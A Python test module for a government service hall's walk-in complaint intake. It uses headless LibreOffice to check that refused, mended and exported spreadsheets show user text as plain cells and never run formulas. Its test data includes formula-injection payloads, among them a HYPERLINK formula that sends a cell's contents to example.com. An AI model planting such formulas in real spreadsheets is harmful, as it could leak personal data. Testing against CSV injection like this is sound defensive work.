"""The sheet of refused rows, opened, mended and saved by a real spreadsheet program, comes back as messages."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from api.web.exports import spreadsheet
from channels.message import Account, InboundMessage, Refused
from channels.registry import CHANNELS
from channels.walk_in import CHANNEL
from tests.conftest import missing

pytestmark = pytest.mark.libreoffice

ACCOUNT = Account("walk_in", "hall")
HEAD = ["来访时间", "姓名", "联系电话", "诉求内容"]
LINK = '=HYPERLINK("http://example.com/?x="&B2,"点这里")'
TWO_LINES = "楼上漏水\n物业不管，“说了三次”；没人来"
SHEET_NAME = "玉泉区政务服务大厅现场登记表二〇二六年三月第一周之二号窗口"[:31]
EVERYTHING_ON = "Text - txt - csv (StarCalc):44/59/9,34,76,1,,0,false,true,false,false,false,-1,true"
"""Parted at commas, semicolons and tabs, in UTF-8, with special numbers and formulas: whatever the dialogue offers."""
LONG = "井盖松动，" * 400
ROWS: list[list[Any]] = [
    ["2026-03-05 09:10", "甲", "13900000101", "路灯三天不亮"],
    ["2026-03-05 09:20", "乙", "13900000102", LINK],
    ["2026-03-05 09:30", "丙", "13900000103", "=6*7"],
    ["2026-03-05 09:40", "=1+1", "139000001", TWO_LINES],
    ["昨天", "@SUM(1,2)", "+8613900000104", "-3楼积水"],
    ["2026-02-30", "+戊", "13900000105", LONG],
]


@dataclass(frozen=True, slots=True)
class Office:
    """LibreOffice without a window, with a profile of its own."""

    folder: Path

    def convert(self, content: bytes, name: str, to: str, *reading: str) -> bytes:
        """The file as the program saves it in another format, read with the given options."""
        source, out = self.folder / name, self.folder / "saved"
        source.write_bytes(content)
        profile = f"-env:UserInstallation=file://{self.folder / 'profile'}"
        given = ["soffice", profile, "--headless", *reading, "--convert-to", to, "--outdir", str(out), str(source)]
        done = subprocess.run(given, capture_output=True, timeout=100, check=False)
        ending = to.partition(":")[0]
        saved = out / f"{source.stem}.{ending}"
        assert saved.is_file(), done.stderr.decode(errors="replace")
        return saved.read_bytes()


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Office:
    if shutil.which("soffice") is None:
        missing("--no-install-recommends libreoffice-calc", "LibreOffice Calc")
    return Office(tmp_path_factory.mktemp("office"))


@pytest.fixture(scope="module")
def uploaded() -> bytes:
    """The counter's workbook: good rows, and bad ones in which some cells compute."""
    book = Workbook()
    book.active.title = SHEET_NAME
    for row in [HEAD, *ROWS]:
        book.active.append(row)
    assert {book.active["D3"].data_type, book.active["D4"].data_type} == {"f"}
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def refused_of(payload: bytes) -> list[Refused]:
    return [each for each in CHANNEL.parse(payload, ACCOUNT) if isinstance(each, Refused)]


def test_a_spreadsheet_program_shows_each_refused_row_with_its_reason_and_runs_nothing(
    office: Office, uploaded: bytes
) -> None:
    returned = CHANNEL.returned(uploaded, ACCOUNT)
    comma, quote, utf8 = 44, 34, 76
    shown = office.convert(returned, "returned.xlsx", f"csv:Text - txt - csv (StarCalc):{comma},{quote},{utf8}")
    head, *rows = csv.reader(io.StringIO(shown.decode("utf-8"), newline=""), strict=True)
    assert head == [*HEAD, "原行号", "退回原因"]
    assert [row[:4] for row in rows] == [[str(cell) for cell in row] for row in ROWS[1:]]
    assert [(int(row[4]), row[5]) for row in rows] == [(each.row, each.why) for each in refused_of(uploaded)]
    assert all(row[5] for row in rows)


def test_the_mended_sheet_saved_by_a_spreadsheet_program_is_read_again(office: Office, uploaded: bytes) -> None:
    book = load_workbook(io.BytesIO(CHANNEL.returned(uploaded, ACCOUNT)))
    sheet = book.worksheets[0]
    for place, mended in {"D2": "电梯坏了", "D3": "停水", "B4": "丁", "C4": "13900000106", "A5": "2026-03-04"}.items():
        sheet[place] = mended
    written = io.BytesIO()
    book.save(written)
    saved = office.convert(written.getvalue(), "mended.xlsx", "xlsx")
    read = CHANNELS["walk_in"].parse(saved, ACCOUNT)
    said = [each for each in read if isinstance(each, InboundMessage)]
    assert [each.text for each in said] == ["电梯坏了", "停水", TWO_LINES, "-3楼积水"]
    assert [each.sender.name for each in said] == ["乙", "丙", "丁", "@SUM(1,2)"]
    assert [each.sender.phone for each in said] == ["13900000102", "13900000103", "13900000106", "13900000104"]
    (still,) = [each for each in read if isinstance(each, Refused)]
    assert (still.row, "2026-02-30" in still.why) == (6, True)


def test_a_spreadsheet_program_finds_no_formula_in_a_list_that_was_exported(office: Office) -> None:
    texts = [LINK, "=6*7", "+6*7", "-6*7", "@SUM(6,7)", "＝6*7", "\t=6*7", "漏水;=6*7", "第一行\n=6*7"]
    exported = spreadsheet([("诉求", "件数"), *((text, "-5") for text in texts)])
    book = load_workbook(io.BytesIO(office.convert(exported, "exported.csv", "xlsx", f"--infilter={EVERYTHING_ON}")))
    cells = [cell for row in book.worksheets[0].iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert [cell.value for cell in cells if cell.data_type == "n"] == [-5] * len(texts)
